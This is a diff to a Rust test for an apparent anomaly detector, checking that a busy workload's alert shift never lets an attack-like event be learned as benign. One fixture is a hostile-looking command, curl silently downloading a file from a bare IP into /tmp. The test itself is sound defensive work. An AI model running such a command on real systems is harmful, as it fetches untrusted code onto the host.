@@ -354,6 +354,44 @@ fn a_workload_busy_with_new_work_flags_within_its_own_budget() {
     );
     assert_ne!(quiet.verdict(), Verdict::Ok, "{}", quiet.explanation);
     assert!(bs.p_decision < qs.p_decision);
+    // What the shift kept from alerting is not learned: a busy spell
+    // cannot teach the workload an attack that happened during it. The
+    // quiet workload alerts on the same behaviour; the busy one only warns,
+    // does not learn it, and alerts on it once its spell is over.
+    let fetch = ["curl", "-so", "/tmp/x", "http://198.51.100.7/a"];
+    let (quiet, _) = judge.score_detailed(event("quiet", "curl", "dhbad", &fetch));
+    assert_eq!(quiet.verdict(), Verdict::Alert, "{}", quiet.explanation);
+    let (busy, _) = judge.score_detailed(event("busy", "curl", "dhbad", &fetch));
+    assert_ne!(busy.verdict(), Verdict::Alert, "{}", busy.explanation);
+    assert!(!busy.learned, "{}", busy.explanation);
+    assert!(
+        busy.explanation
+            .contains("not learned until confirmed benign"),
+        "{}",
+        busy.explanation
+    );
+    // What the fleet's decision itself would not alert on is learned as
+    // before, shifted or not.
+    let list = ["crontab", "-l"];
+    let (busy, signals) = judge.score_detailed(event("busy", "crontab", "dhbad", &list));
+    assert_eq!(busy.verdict(), Verdict::Ok, "{}", busy.explanation);
+    assert!(
+        signals.p_decision < 0.9 && busy.learned,
+        "{}",
+        busy.explanation
+    );
+    // Two periods of its routine: the shift is gone, and the fetch alerts.
+    for i in 0..800 {
+        judge.score(event(
+            "busy",
+            "make",
+            "bash",
+            &["make", "-j2", ["all", "test", "lint"][i % 3]],
+        ));
+    }
+    let (after, signals) = judge.score_detailed(event("busy", "curl", "dhbad", &fetch));
+    assert_eq!(signals.own_shift, 0.0);
+    assert_eq!(after.verdict(), Verdict::Alert, "{}", after.explanation);
 
     // A high-precision indicator is never shifted.
     let mut shell = event(
